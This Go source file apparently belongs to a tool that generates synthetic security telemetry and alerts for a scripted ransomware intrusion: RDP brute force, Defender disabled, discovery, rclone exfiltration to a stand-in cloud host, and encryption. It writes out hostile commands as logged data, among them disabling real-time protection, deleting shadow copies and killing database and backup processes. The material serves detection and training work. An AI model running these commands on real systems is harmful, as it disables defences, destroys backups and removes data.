package sample

import (
	"fmt"

	"lockstep/schema"
	"lockstep/source"
)

// ransomware tells how somebody guessed a password at an exposed server, went
// by hand from there to the file servers, took data away and encrypted the rest.
func (s *script) ransomware() {
	s.tell("ransomware", "Human-operated ransomware", "A guessed password on an exposed remote desktop server, protection turned off, backups destroyed, data taken, files encrypted.")
	c, w := s.w.company, s.w
	admin := c.byRole["backup admin"]
	rds, bkp, dc := c.byHost["tbk-rds-01"], c.byHost["tbk-bkp-01"], c.byHost["tbk-dc-02"]
	var targets []*device
	for _, host := range []string{"tbk-file-01", "tbk-file-02", "tbk-sql-01", "tbk-app-01", "tbk-mes-01", "tbk-bkp-01"} {
		targets = append(targets, c.byHost[host])
	}
	const guesser, drop = "198.19.140.66", "198.19.141.9"
	t := s.moment(0.84, 1, 20)

	s.step("four hours of password guesses at the remote desktop server, then one fits")
	const guesses = 140
	for k := range guesses {
		who := []*person{admin, c.people[8], c.people[90], c.byRole["svc-backup"]}[k%4]
		s.logon(t+schema.Ticks(k)*100*second, rds, logon{action: "LogonFailed", kind: "Network", protocol: "Ntlm", failure: "InvalidUserNameOrPassword", who: who, fromIP: guesser})
	}
	in := t + guesses*100*second
	s.logon(in, rds, logon{action: "LogonSuccess", kind: "RemoteInteractive", protocol: "Negotiate", who: admin, fromIP: guesser, admin: true})
	s.pattern("brute force over RDP", "DeviceLogonEvents", guesses+1, "many failures of several accounts from one address, then a success")
	s.raise(finding{product: identity, title: "Suspected brute-force attack (Kerberos, NTLM)", about: "Many wrong passwords for several accounts, and one that was right.", category: "CredentialAccess", severity: "medium", techniques: []string{"T1110"},
		first: t, last: in, evidence: []piece{{person: admin, role: "attacked", impacted: true}, {device: rds, role: "source", impacted: true}, {device: dc, role: "destination"}, {ip: guesser, role: "attacker"}}})
	s.raise(finding{product: endpoint, title: "Successful logon after many failures from one address", about: "An address that had failed many times logged on to this device.", category: "InitialAccess", severity: "medium", techniques: []string{"T1110", "T1021.001"},
		first: in, last: in, evidence: []piece{{device: rds, impacted: true}, {person: admin, impacted: true, role: "compromised"}, {ip: guesser, role: "attacker"}}})

	s.step("protection is turned off, the network is mapped")
	look := in + 20*minute
	explorer := s.run(in+20*second, rds, admin, nil, w.programs["explorer.exe"], `C:\Windows\Explorer.EXE`)
	shell := s.run(look, rds, admin, explorer, w.programs["cmd.exe"], `"cmd.exe"`)
	off := s.run(look+minute, rds, admin, shell, w.programs["powershell.exe"], `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\PerfLogs`)
	key := [3]string{`HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware", "1"}
	s.put("DeviceRegistryEvents", look+minute+second, func(l *line) {
		w.registryRow(l, off, "RegistryValueSet", key[0], "Dword", key[1], key[2], s.report())
	})
	s.deviceEvent(look+minute+2*second, off, "TamperingAttempt", `{"TamperingAction":"Disable real-time protection","Status":"Blocked"}`)
	s.raise(finding{product: endpoint, title: "Attempt to turn off protection", about: "A setting that turns off protection was changed on this device.", category: "DefenseEvasion", severity: "high", techniques: []string{"T1562.001"},
		first: look + minute, last: look + minute + 2*second, evidence: []piece{{device: rds, impacted: true}, {person: admin}, {process: off}, {key: key}}})
	for k, command := range []string{`net.exe group "Domain Admins" /domain`, `net.exe view /all`, `nltest.exe /dclist:corp.tarnbeck.example`, `whoami.exe /all`} {
		g := s.tool(sys+`\`+[]string{"net.exe", "net.exe", "nltest.exe", "whoami.exe"}[k], ms, "Directory tool")
		s.run(look+schema.Ticks(3+k)*minute, rds, admin, shell, g, command)
	}
	scanner := s.tool(`C:\PerfLogs\nscan.exe`, "", "")
	scan := s.run(look+9*minute, rds, admin, shell, scanner, `nscan.exe /range:10.40.0.0-10.40.20.255 /ports:445,3389`)
	for k := range 60 {
		s.connect(look+9*minute+schema.Ticks(k)*second, scan, w.company.devices[k].ip, "", 445)
	}
	s.pattern("port scan", "DeviceNetworkEvents", 60, "one process, sixty hosts, port 445, one minute")
	s.raise(finding{product: endpoint, title: "Network scan by a rarely seen tool", about: "A tool that is new in this organisation connected to many devices in a short time.", category: "Discovery", severity: "low", techniques: []string{"T1018"},
		first: scan.created, last: scan.created + minute, evidence: []piece{{device: rds, impacted: true}, {process: scan}, {person: admin}}})

	s.step("data leaves the file server")
	take := look + 70*minute
	rclone := s.tool(`C:\PerfLogs\rclone.exe`, "", "")
	fileServer := targets[0]
	s.logon(take, fileServer, logon{action: "LogonSuccess", kind: "RemoteInteractive", protocol: "Negotiate", who: admin, from: rds, admin: true})
	copying := s.run(take+2*minute, fileServer, admin, nil, rclone, `rclone.exe copy D:\shares remote:tb --transfers 24 --no-check-certificate`)
	for k := range 25 {
		s.connect(take+schema.Ticks(3+k)*minute, copying, drop, "store.vault-drop.example", 443)
	}
	s.pattern("copy to a cloud store", "DeviceProcessEvents", 1, "rclone.exe copy, under whatever name")
	s.raise(finding{product: endpoint, title: "Possible data exfiltration with a copy tool", about: "A tool that copies to cloud stores moved much data off a file server.", category: "Exfiltration", severity: "medium", techniques: []string{"T1567.002"},
		first: take + 2*minute, last: take + 28*minute, evidence: []piece{{device: fileServer, impacted: true}, {process: copying}, {ip: drop, role: "destination"}, {person: admin, impacted: true}}})

	s.step("a service on six servers stops what holds files open, deletes shadow copies and encrypts")
	hit := take + 100*minute
	remote := s.tool(`C:\Windows\PSXSVC.exe`, "", "")
	locker := s.tool(`C:\Windows\Temp\upd64.exe`, "", "")
	shadow := s.tool(sys+`\vssadmin.exe`, ms, "Command Line Interface for Microsoft Volume Shadow Copy Service")
	stop := s.tool(sys+`\taskkill.exe`, ms, "Terminates Processes")
	var lockers []*process
	for k, d := range targets {
		at := hit + schema.Ticks(k)*50*second
		s.logon(at, d, logon{action: "LogonSuccess", kind: "Network", protocol: "Ntlm", who: admin, from: rds, admin: true})
		svc := s.run(at+second, d, c.system, nil, remote, `C:\Windows\PSXSVC.exe`)
		s.put("DeviceEvents", at+second, func(l *line) {
			w.deviceEventRow(l, svc, "ServiceInstalled", `"FileName":"PSXSVC.exe","FolderPath":"C:\\Windows",`, `{"ServiceName":"PSXSVC","ServiceStartType":3}`, s.report())
		})
		killer := s.run(at+5*second, d, c.system, svc, stop, `taskkill.exe /f /im sqlservr.exe /im tbbackup.exe`)
		deleting := s.run(at+9*second, d, c.system, svc, shadow, `vssadmin.exe delete shadows /all /quiet`)
		lock := s.run(at+15*second, d, c.system, svc, locker, `upd64.exe -full -net`)
		lockers = append(lockers, lock)
		const files = 45
		for n := range files {
			f := newDiskFile(fmt.Sprintf(`D:\shares\%s\%s %d.xlsx.tbkl`, w.company.people[n].department, documents[n%len(documents)], n), d.host)
			f.oldName, f.oldFolder = fmt.Sprintf("%s %d.xlsx", documents[n%len(documents)], n), f.folder
			s.write(at+20*second+schema.Ticks(n)*second/3, lock, "FileRenamed", &f)
		}
		note := newDiskFile(`D:\shares\HOW_TO_GET_FILES_BACK.txt`, d.host)
		s.write(at+40*second, lock, "FileCreated", &note)
		if k < 5 {
			s.raise(finding{product: endpoint, title: "Ransomware behaviour detected in the file system", about: "Many files were renamed to an extension that nobody uses, and a note was left.", category: "Impact", severity: "high", techniques: []string{"T1486"},
				first: at + 15*second, last: at + 40*second, evidence: []piece{{device: d, impacted: true}, {process: lock}, {process: svc}, {file: &note}, {person: admin}},
				progress: []step{{after: 2 * schema.Hour, status: "inProgress"}}})
		}
		if k == 0 {
			s.raise(finding{product: endpoint, title: "System recovery setting tampering", about: "Shadow copies were deleted.", category: "Impact", severity: "high", techniques: []string{"T1490", "T1489"},
				first: deleting.created, last: deleting.created, evidence: []piece{{device: d, impacted: true}, {process: deleting}, {process: killer}}, shapes: []source.Shape{source.SecurityAlert, source.Graph}})
		}
	}
	s.pattern("shadow copies deleted", "DeviceProcessEvents", len(targets), "vssadmin delete shadows")
	s.pattern("mass rename", "DeviceFileEvents", 45*len(targets), "one process renames dozens of files to .tbkl within a minute")
	s.raise(finding{product: antivirus, title: "Ransomware was prevented on one device", about: "Antivirus stopped the program on the backup server.", category: "Impact", severity: "high", threat: "Ransom:Win64/Sample.B", techniques: []string{"T1486"},
		first: hit + 5*minute, last: hit + 5*minute, evidence: []piece{{device: bkp, impacted: true}, {process: lockers[5], verdict: "malicious"}}})
	s.raise(finding{product: defender, title: "Hands-on ransomware attack by a compromised account", about: "Signals of several products together show an attack by hand that ends in encryption. The account was contained.", category: "Impact", severity: "high",
		techniques: []string{"T1486", "T1078"}, first: in, last: hit + 6*minute, evidence: []piece{{person: admin, impacted: true, role: "compromised"}, {device: rds, impacted: true}, {device: targets[0], impacted: true}, {device: targets[1], impacted: true}, {ip: guesser, role: "attacker"}}})
}
